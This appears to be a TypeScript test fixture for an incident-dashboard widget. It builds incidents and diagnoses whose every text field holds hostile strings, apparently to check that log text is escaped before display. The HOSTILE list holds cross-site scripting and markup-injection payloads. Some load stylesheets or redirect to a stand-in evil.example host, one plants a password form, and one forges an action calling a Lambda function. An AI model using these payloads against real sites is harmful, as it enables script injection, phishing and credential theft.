import { NOW } from './made-incidents';
import type { Diagnosis } from '../../src/diagnosis/model/diagnosis';
import type { Incident } from '../../src/incidents/incident';
import type { ListedIncident } from '../../src/widget/page/listed-incidents';
import { aDiagnosis } from '../diagnosis/a-diagnosis';

/** What somebody may write into a log: each would do something on a page that takes it for markup. */
export const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '</code></details></div><script>alert(2)</script>',
  '<img src=x onerror=alert(3)>',
  '"><svg onload=alert(4)>',
  '\'\' onmouseover=alert(5) x=\'',
  '<style>*{display:none}</style><style>@import "https://evil.example/x.css"',
  '<iframe src="javascript:alert(6)"></iframe>',
  '<a href="javascript:alert(7)">x</a>',
  '<cwdb-action action="call" endpoint="arn:aws:lambda:us-east-1:111122223333:function:evil">{}</cwdb-action>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=password autofocus onfocus=alert(8)></form>',
  '<link rel=stylesheet href=https://evil.example/x.css><object data="https://evil.example/x"></object>',
  '&lt;script&gt;alert(9)&lt;/script&gt; &#60;script&#62;alert(10)&#60;/script&#62;',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(11)&gt;">',
  '<!-- --><plaintext><textarea><title><noscript><xmp>',
  '`${alert(12)}` {{constructor.constructor("alert(13)")()}}',
  '\u202eexe.txt \u2066\u2069 \u0000\u001b[31m\u200b',
  `${'ا'.repeat(40)} ${'ש'.repeat(40)}`,
  `Z${'\u0300\u0301\u0302\u0303'.repeat(60)}algo`,
  'x'.repeat(5000),
  `${'\n'.repeat(200)}after many lines`,
  'password=hunter2hunter2 https://evil.example/phish',
  '😀'.repeat(300),
];

/** A diagnosis in which every text is hostile. */
const hostileDiagnosis = (text: string): Partial<Diagnosis> => ({
  title: text,
  summary: text,
  service: text,
  container: text,
  stoppedReason: text,
  containerReason: text,
  stopCode: text,
  clues: [{ source: text, quote: text, says: text }],
  actions: [{ title: text, commands: [text], prop: text }, { title: text, commands: ['https://evil.example/console.aws.amazon.com/'], prop: null }],
  alternatives: [{ cause: 'init/secret-kms', confidence: 'possible', toConfirm: text }],
  prevention: [{ guardrail: text, acknowledged: { reason: text } }],
  gaps: [{ source: text, because: text }],
});

/** An incident of which every text is hostile. */
export function hostileIncident(text = HOSTILE.join(' '), index = 0): ListedIncident {
  const seen = new Date(NOW - (index + 1) * 60_000).toISOString();
  const incident: Incident = {
    id: `hostile-${index}`,
    cluster: 'shop',
    service: text,
    container: text,
    cause: 'init/secret-permission',
    severity: 'failure',
    title: text,
    taskDefinitionArn: `arn:aws:ecs:eu-west-1:111122223333:task-definition/${text}`,
    status: 'open',
    occurrences: 3,
    firstSeen: seen,
    lastSeen: seen,
    openedAt: seen,
    reopened: 0,
    escalated: false,
    recent: [],
  };
  return { incident, diagnosis: aDiagnosis(hostileDiagnosis(text)) };
}
